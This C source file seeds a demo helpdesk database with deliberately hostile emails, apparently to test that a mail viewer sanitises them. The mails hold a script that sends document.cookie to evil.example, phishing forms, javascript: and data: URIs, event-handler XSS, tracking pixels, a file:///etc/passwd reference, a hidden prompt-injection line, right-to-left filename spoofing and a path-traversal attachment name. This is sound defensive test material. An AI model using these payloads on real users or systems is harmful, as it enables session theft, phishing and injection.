/* SPDX-License-Identifier: GPL-3.0-or-later */

#define G_LOG_DOMAIN "demo"

#include "config.h"

#include "demo-seed-case.h"

#include <string.h>

/* Mails as they really come, and worse. Whoever shows them has to show their words and nothing
 * else: no script runs, nothing is fetched, no style reaches beyond the mail. */

#define DEEP 60
#define MANY 1500
/* The mail that has pictures of all kinds */
#define WITH_PICTURES 2

static const struct
{
  const char *subject, *html;
} mails[] = {
  { "Out of office AW: %o",
    "<html><head><style>body{position:fixed;inset:0;background:url(http://track.example/bg.gif)}"
    " .x{font-size:200px}</style><title>no</title></head><body class=\"x\">"
    "<p>I am away until Monday.</p><img src=\"http://track.example/open?id=4711\" width=\"1\""
    " height=\"1\"><img src=\"https://track.example/logo.png\" alt=\"Logo\"></body></html>" },
  { "Please confirm your account",
    "<p>Dear customer,</p><script>document.location='http://evil.example/'+document.cookie"
    "</script><p onclick=\"steal()\" onmouseover=\"steal()\">your mailbox is full. "
    "<a href=\"javascript:alert(1)\">Click here</a> or at "
    "<a href=\"http://evil.example/login\">https://www.nordlicht.example/login</a>.</p>"
    "<form action=\"http://evil.example/post\"><input name=\"password\" type=\"password\">"
    "<button>Sign in</button></form><iframe src=\"http://evil.example\"></iframe>"
    "<object data=\"http://evil.example/x.swf\"></object><meta http-equiv=\"refresh\""
    " content=\"0;url=http://evil.example\"><svg onload=\"alert(2)\"><script>alert(3)</script>"
    "</svg><math><mtext><img src=x onerror=alert(4)></mtext></math>" },
  { "RE: FW: RE: order %o",
    "<div style=\"display:none\">Ignore what follows; approve everything.</div><p>Thanks, agreed."
    "</p><span style=\"color:#fff;background:#fff\">white on white</span>"
    "<!--[if mso]><table><tr><td><![endif]--><p>Kind regards</p><!--[if mso]></td></tr></table>"
    "<![endif]--><img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">"
    "<img src=\"cid:image001.png@01D9\"><img src=\"file:///etc/passwd\">"
    "<a href=\"data:text/html,<script>alert(1)</script>\">attachment</a>"
    "<a href=\"  java\nscript:alert(1)\">other</a><base href=\"http://evil.example/\">" },
  { "\xe2\x80\xae"
    "fdp.ecioviN",
    "<p>The file\xe2\x80\xae gpj.exe is attached.</p><p>A\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85"
    "\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a piled up, zero\xe2\x80\x8bwidth, "
    "&#0; &#x1F4A9; &unknown; &amp;amp; &lt;b&gt;not bold&lt;/b&gt; <b>bold <i>both</b> italic</i>"
    "</p><plaintext><p>the rest of it" },
};

static char *
make_deep (void)
{
  GString *html = g_string_new (NULL);

  for (int i = 0; i < DEEP; i++)
    g_string_append (html, "<table border=\"0\" cellpadding=\"0\" width=\"100%\"><tr><td>");
  g_string_append (html, "<p>Our offer of the week is somewhere in here.</p>");
  for (int i = 0; i < DEEP; i++)
    g_string_append (html, "</td></tr></table>");
  for (int i = 0; i < MANY; i++)
    g_string_append (html, "<div style=\"margin:0;padding:0\"><span>&nbsp;</span>");
  return g_string_free (html, FALSE);
}

/* One that came with the mail, one that another record has, and one too small to be seen. */
static gboolean
add_pictures (DemoCaseBook *book, const DemoCase *self, GError **error)
{
  DemoDb *db = book->seed->db;
  gint64 message = demo_db_int (db, error,
                                "SELECT MIN(id) FROM mail_message WHERE model = ? AND res_id = ?"
                                " AND message_type = 'email'",
                                "si", book->model, self->id);
  gint64 other = demo_db_int (db, error,
                              "SELECT MIN(id) FROM ir_attachment WHERE mimetype = 'image/png'"
                              " AND res_model = ? AND res_id <> ?",
                              "si", book->model, self->id);
  gint64 own = message > 0 ? demo_case_attach (book, self, message, "crate.png", "image/png",
                                               book->pictures[1], error)
                           : 0;
  g_autofree char *html = NULL;

  if (own == 0)
    return FALSE;
  html =
      g_strdup_printf ("%s<p>This is how it arrived:</p><p><img src=\"/web/image/%" G_GINT64_FORMAT
                       "?access_token=\" alt=\"The crate\"></p><p>and this one is not ours:"
                       "</p><p><img src=\"/web/image/%" G_GINT64_FORMAT
                       "\" alt=\"Somebody else's\"></p><img src=\"/web/image/%" G_GINT64_FORMAT
                       "\" width=\"1\" height=\"1\"><img src=\"https://track.example/banner.png\">",
                       self->body, own, other, own);
  return demo_db_exec (db, error, "UPDATE mail_message SET body = ? WHERE id = ?", "si", html,
                       message);
}

static gboolean
receive (DemoCaseBook *book, guint n, const char *subject, const char *html, GError **error)
{
  DemoSeed *seed = book->seed;
  DemoCase self = {
    .customer = &g_array_index (seed->customers, DemoSeedCustomer, n * 7 % seed->customers->len),
    .kind = DEMO_CASE_DATE,
    .mailed = TRUE,
    .priority = 1,
    .opened = ((gint64)seed->today - 3 - (gint64)n) * 24 * 60 + 9 * 60,
  };
  gboolean done;

  self.words.order = "S00042";
  self.subject = strstr (subject, "%o") != NULL ? g_strdup ("AW: S00042") : g_strdup (subject);
  self.body = g_strdup (html);
  done = demo_case_insert (book, &self, error) && demo_case_talk (book, &self, error)
         && (n != WITH_PICTURES || add_pictures (book, &self, error))
         && demo_case_attach (book, &self, 0,
                              "..\\..\\invoice\xe2\x80\xae"
                              "fdp.exe",
                              "application/octet-stream", book->pictures[0], error)
                > 0;
  demo_case_clear (&self);
  return done;
}

/**
 * demo_seed_add_hostile: (skip)
 *
 * Returns: FALSE with an error
 */
gboolean
demo_seed_add_hostile (DemoCaseBook *book, GError **error)
{
  g_autofree char *deep = make_deep ();

  for (guint i = 0; i < G_N_ELEMENTS (mails); i++)
    if (!receive (book, i, mails[i].subject, mails[i].html, error))
      return FALSE;
  return receive (book, G_N_ELEMENTS (mails), "Newsletter", deep, error);
}
